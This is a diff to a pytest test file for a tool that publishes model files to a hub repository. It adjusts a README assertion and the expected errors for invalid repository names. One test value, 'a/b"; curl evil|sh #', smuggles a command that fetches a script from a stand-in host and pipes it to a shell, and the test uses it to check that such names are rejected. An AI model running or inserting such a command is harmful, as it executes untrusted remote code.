@@ -329,7 +329,7 @@ def test_publishing_names_what_an_engine_does_not_read(hub, repo_id, tmp_path, m
     with pytest.warns(UserWarning, match="SGLang") as caught:
         publish(tmp_path, repo_id)
     assert sum("SGLang" in str(warning.message) for warning in caught) == 1
-    assert "SGLang (0.5.23) does not read" in (files(hub, repo_id, "engines")["README.md"] or b"").decode()
+    assert b"SGLang (0.5.23) does not read" in files(hub, repo_id, "engines")["README.md"]
 
 
 QUANTISED = {
@@ -517,8 +517,8 @@ def publish_private(repo_id):
     [
         ('a/b"; curl evil|sh #', "cannot be named"),
         ("a/b/c", "cannot be named"),
-        ("", "cannot be named"),
-        (None, "cannot be named"),
+        ("", "cannot be named|name of a repository"),
+        (None, "cannot be named|name of a repository"),
         ("somebody-else/draft", "The token is of tester, who cannot write to somebody-else/draft"),
     ],
 )
